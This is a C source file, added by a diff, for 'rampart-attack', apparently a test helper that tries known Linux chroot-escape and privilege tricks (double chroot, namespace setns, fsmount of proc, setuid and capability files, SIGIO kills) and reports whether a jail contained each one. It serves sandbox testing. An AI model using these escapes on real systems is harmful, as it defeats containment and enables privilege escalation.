@@ -1,0 +1,359 @@
+// SPDX-License-Identifier: GPL-2.0
+/*
+ * rampart-attack: the guest's chroot-escape playbook. Each command tries one
+ * known way out of (or around) a chroot and prints one line that says how far
+ * it got: "<attack>: <step>: <errno name>" when a step was refused, or
+ * "<attack>: ESCAPED" / "<attack>: done" when it worked. A case decides from
+ * that line.
+ *
+ * "Escaped" means the real root's marker file (/rampart/variant, which a jail
+ * never holds) became reachable.
+ */
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <sched.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/resource.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/types.h>
+#include <sys/wait.h>
+#include <sys/xattr.h>
+#include <unistd.h>
+
+#define MARKER "rampart/variant"
+
+/* The new mount API (linux/mount.h), spelled out to avoid header clashes. */
+#define FSCONFIG_CMD_CREATE 6
+#define MOVE_MOUNT_F_EMPTY_PATH 0x00000004
+#define OPEN_TREE_CLONE 1
+#define OPEN_TREE_CLOEXEC O_CLOEXEC
+
+static int refused(const char *attack, const char *step)
+{
+	printf("%s: %s: %s\n", attack, step, strerrorname_np(errno) ? strerrorname_np(errno) : "?");
+	return 1;
+}
+
+/* Whether the real root is reachable from here: through "/" or through @dirfd. */
+static int escaped(const char *attack, int dirfd)
+{
+	if (faccessat(dirfd, dirfd == AT_FDCWD ? "/" MARKER : MARKER, F_OK, 0) == 0) {
+		printf("%s: ESCAPED\n", attack);
+		return 0;
+	}
+	printf("%s: contained\n", attack);
+	return 1;
+}
+
+/* The classic: a second chroot, then ".." until the real root. */
+static int double_chroot(const char *attack)
+{
+	mkdir("rampart-attack.d", 0700);
+	if (chroot("rampart-attack.d"))
+		return refused(attack, "chroot");
+	for (int i = 0; i < 64; i++)
+		if (chdir(".."))
+			return refused(attack, "chdir ..");
+	if (chroot("."))
+		return refused(attack, "chroot .");
+	return escaped(attack, AT_FDCWD);
+}
+
+/* unshare(CLONE_NEWPID) + fork: the child is pid 1 of a new namespace. */
+static int cmd_pidns(void)
+{
+	int status;
+	pid_t pid;
+
+	if (unshare(CLONE_NEWPID))
+		return refused("pidns", "unshare(CLONE_NEWPID)");
+	pid = fork();
+	if (pid < 0)
+		return refused("pidns", "fork");
+	if (pid == 0) {
+		if (chdir("/"))
+			_exit(refused("pidns", "chdir /"));
+		_exit(double_chroot("pidns"));
+	}
+	if (waitpid(pid, &status, 0) != pid)
+		return refused("pidns", "waitpid");
+	return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
+}
+
+/* clone(CLONE_NEWPID | CLONE_NEWNS) straight away. */
+static int cmd_clone_ns(void)
+{
+	int status;
+	pid_t pid = syscall(SYS_clone, CLONE_NEWPID | CLONE_NEWNS | SIGCHLD, NULL, NULL, NULL, 0);
+
+	if (pid < 0)
+		return refused("clone-ns", "clone(CLONE_NEWPID|CLONE_NEWNS)");
+	if (pid == 0)
+		_exit(double_chroot("clone-ns"));
+	if (waitpid(pid, &status, 0) != pid)
+		return refused("clone-ns", "waitpid");
+	return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
+}
+
+/* unshare(CLONE_NEWNS) inside the chroot. */
+static int cmd_mntns(void)
+{
+	if (unshare(CLONE_NEWNS))
+		return refused("mntns", "unshare(CLONE_NEWNS)");
+	return double_chroot("mntns");
+}
+
+/* setns() into a mount namespace resets the root to that namespace's root. */
+static int setns_escape(const char *attack, int nsfd)
+{
+	if (setns(nsfd, CLONE_NEWNS))
+		return refused(attack, "setns");
+	return escaped(attack, AT_FDCWD);
+}
+
+/* setns through an /proc/self/ns/mnt opened inside the chroot (proc given by the admin). */
+static int cmd_setns(void)
+{
+	int fd = open("/proc/self/ns/mnt", O_RDONLY);
+
+	if (fd < 0)
+		return refused("setns", "open /proc/self/ns/mnt");
+	return setns_escape("setns", fd);
+}
+
+/* chroot JAIL with a namespace fd opened before, then setns. */
+static int cmd_setns_held(const char *jail)
+{
+	int fd = open("/proc/self/ns/mnt", O_RDONLY);
+
+	if (fd < 0)
+		return refused("setns-held", "open /proc/self/ns/mnt");
+	if (chroot(jail) || chdir("/"))
+		return refused("setns-held", "chroot");
+	return setns_escape("setns-held", fd);
+}
+
+static int fsopen_mount(const char *attack, const char *fstype)
+{
+	int fs = syscall(SYS_fsopen, fstype, 0);
+	int mnt;
+
+	if (fs < 0)
+		return refused(attack, "fsopen");
+	if (syscall(SYS_fsconfig, fs, FSCONFIG_CMD_CREATE, NULL, NULL, 0))
+		return refused(attack, "fsconfig create");
+	mnt = syscall(SYS_fsmount, fs, 0, 0);
+	if (mnt < 0)
+		return refused(attack, "fsmount");
+	return mnt;
+}
+
+/* fsopen("tmpfs") + fsmount + move_mount onto /mnt: mount(2) by another name. */
+static int cmd_newmount(void)
+{
+	int mnt = fsopen_mount("newmount", "tmpfs");
+
+	if (mnt <= 1)
+		return 1;
+	if (syscall(SYS_move_mount, mnt, "", AT_FDCWD, "/mnt", MOVE_MOUNT_F_EMPTY_PATH))
+		return refused("newmount", "move_mount");
+	printf("newmount: done\n");
+	return 0;
+}
+
+/* A detached proc from fsmount: /proc/1/root through it, without /proc in the jail. */
+static int cmd_fsmount_proc(void)
+{
+	int mnt = fsopen_mount("fsmount-proc", "proc");
+	int ns;
+
+	if (mnt <= 1)
+		return 1;
+	if (escaped("fsmount-proc root", openat(mnt, "1/root", O_PATH | O_DIRECTORY)) == 0)
+		return 0;
+	ns = openat(mnt, "self/ns/mnt", O_RDONLY);
+	if (ns < 0)
+		return refused("fsmount-proc", "open self/ns/mnt");
+	return setns_escape("fsmount-proc", ns);
+}
+
+/* open_tree(OPEN_TREE_CLONE) + move_mount: a bind mount by another name. */
+static int cmd_open_tree(void)
+{
+	int tree = syscall(SYS_open_tree, AT_FDCWD, "/bin", OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
+
+	if (tree < 0)
+		return refused("open-tree", "open_tree(OPEN_TREE_CLONE)");
+	if (syscall(SYS_move_mount, tree, "", AT_FDCWD, "/mnt", MOVE_MOUNT_F_EMPTY_PATH))
+		return refused("open-tree", "move_mount");
+	printf("open-tree: done\n");
+	return 0;
+}
+
+/* Setuid files made without chmod: open(O_CREAT, 04755) and mknod(S_IFREG|04755). */
+static int setuid_result(const char *attack, const char *path)
+{
+	struct stat st;
+
+	if (stat(path, &st))
+		return refused(attack, "stat");
+	if (st.st_mode & S_ISUID) {
+		printf("%s: done (mode %o)\n", attack, st.st_mode & 07777);
+		return 0;
+	}
+	printf("%s: created without setuid (mode %o)\n", attack, st.st_mode & 07777);
+	return 1;
+}
+
+static int cmd_create_setuid(const char *path)
+{
+	int fd;
+
+	umask(0);
+	fd = open(path, O_CREAT | O_EXCL | O_WRONLY, 04755);
+	if (fd < 0)
+		return refused("create-setuid", "open(O_CREAT, 04755)");
+	close(fd);
+	return setuid_result("create-setuid", path);
+}
+
+static int cmd_mknod_setuid(const char *path)
+{
+	umask(0);
+	if (mknod(path, S_IFREG | 04755, 0))
+		return refused("mknod-setuid", "mknod(S_IFREG|04755)");
+	return setuid_result("mknod-setuid", path);
+}
+
+/* A file capability (VFS_CAP_REVISION_2, cap_setuid permitted + effective). */
+static int cmd_setcap(const char *path)
+{
+	unsigned int cap[5] = { 0x02000001, 1u << 7, 0, 0, 0 };
+
+	if (setxattr(path, "security.capability", cap, sizeof(cap), 0))
+		return refused("setcap", "setxattr(security.capability)");
+	printf("setcap: done\n");
+	return 0;
+}
+
+/* SIGIO as a kill: F_SETOWN a process outside, F_SETSIG SIGKILL, O_ASYNC, write. */
+static int cmd_sigio(pid_t target)
+{
+	int p[2];
+
+	if (pipe(p))
+		return refused("sigio", "pipe");
+	if (fcntl(p[0], F_SETOWN, target))
+		return refused("sigio", "F_SETOWN");
+	if (fcntl(p[0], F_SETSIG, SIGKILL))
+		return refused("sigio", "F_SETSIG");
+	if (fcntl(p[0], F_SETFL, O_ASYNC))
+		return refused("sigio", "F_SETFL O_ASYNC");
+	if (write(p[1], "x", 1) != 1)
+		return refused("sigio", "write");
+	printf("sigio: done\n");
+	return 0;
+}
+
+/* chroot JAIL holding a directory opened before, then chdir to /proc/self/fd/N. */
+static int cmd_fd_chdir(const char *jail)
+{
+	char link[64];
+	int fd = open("/", O_RDONLY | O_DIRECTORY);
+
+	if (fd < 0)
+		return refused("fd-chdir", "open /");
+	if (chroot(jail) || chdir("/"))
+		return refused("fd-chdir", "chroot");
+	snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
+	if (chdir(link))
+		return refused("fd-chdir", "chdir /proc/self/fd");
+	/* The working directory is the real root now: reachable by relative paths. */
+	if (access(MARKER, F_OK) == 0) {
+		printf("fd-chdir: ESCAPED\n");
+		return 0;
+	}
+	printf("fd-chdir: contained\n");
+	return 1;
+}
+
+/* Drops every capability (effective, permitted, inheritable) and stays uid 0. */
+static int drop_capabilities(void)
+{
+	struct { unsigned int version; int pid; } header = { 0x20080522, 0 };
+	struct { unsigned int effective, permitted, inheritable; } data[2] = { { 0 } };
+
+	return syscall(SYS_capset, &header, data);
+}
+
+/* uid 0 with no capabilities writes TEXT to a settings FILE, opened before or after. */
+static int cmd_nocap_write(const char *path, const char *text, int open_first)
+{
+	int fd = open_first ? open(path, O_WRONLY) : -1;
+
+	if (open_first && fd < 0)
+		return refused("nocap-write", "open with capabilities");
+	if (drop_capabilities())
+		return refused("nocap-write", "capset");
+	if (!open_first && (fd = open(path, O_WRONLY)) < 0)
+		return refused("nocap-write", "open");
+	if (write(fd, text, strlen(text)) < 0)
+		return refused("nocap-write", "write");
+	printf("nocap-write: done\n");
+	return 0;
+}
+
+/* Raising priority from inside the chroot. */
+static int cmd_nice(void)
+{
+	if (setpriority(PRIO_PROCESS, 0, -5))
+		return refused("nice", "setpriority(-5)");
+	printf("nice: done\n");
+	return 0;
+}
+
+int main(int argc, char **argv)
+{
+	setvbuf(stdout, NULL, _IOLBF, 0);
+	if (argc == 2 && !strcmp(argv[1], "pidns"))
+		return cmd_pidns();
+	if (argc == 2 && !strcmp(argv[1], "clone-ns"))
+		return cmd_clone_ns();
+	if (argc == 2 && !strcmp(argv[1], "mntns"))
+		return cmd_mntns();
+	if (argc == 2 && !strcmp(argv[1], "setns"))
+		return cmd_setns();
+	if (argc == 3 && !strcmp(argv[1], "setns-held"))
+		return cmd_setns_held(argv[2]);
+	if (argc == 2 && !strcmp(argv[1], "newmount"))
+		return cmd_newmount();
+	if (argc == 2 && !strcmp(argv[1], "fsmount-proc"))
+		return cmd_fsmount_proc();
+	if (argc == 2 && !strcmp(argv[1], "open-tree"))
+		return cmd_open_tree();
+	if (argc == 3 && !strcmp(argv[1], "create-setuid"))
+		return cmd_create_setuid(argv[2]);
+	if (argc == 3 && !strcmp(argv[1], "mknod-setuid"))
+		return cmd_mknod_setuid(argv[2]);
+	if (argc == 3 && !strcmp(argv[1], "setcap"))
+		return cmd_setcap(argv[2]);
+	if (argc == 3 && !strcmp(argv[1], "sigio"))
+		return cmd_sigio(atoi(argv[2]));
+	if (argc == 3 && !strcmp(argv[1], "fd-chdir"))
+		return cmd_fd_chdir(argv[2]);
+	if (argc == 2 && !strcmp(argv[1], "nice"))
+		return cmd_nice();
+	if (argc == 4 && !strcmp(argv[1], "nocap-write"))
+		return cmd_nocap_write(argv[2], argv[3], 0);
+	if (argc == 4 && !strcmp(argv[1], "nocap-write-held"))
+		return cmd_nocap_write(argv[2], argv[3], 1);
+	fprintf(stderr, "usage: rampart-attack pidns|clone-ns|mntns|setns|setns-held JAIL|newmount|"
+			"fsmount-proc|open-tree|create-setuid PATH|mknod-setuid PATH|setcap PATH|"
+			"sigio PID|fd-chdir JAIL|nice|nocap-write[-held] FILE TEXT\n");
+	return 2;
+}
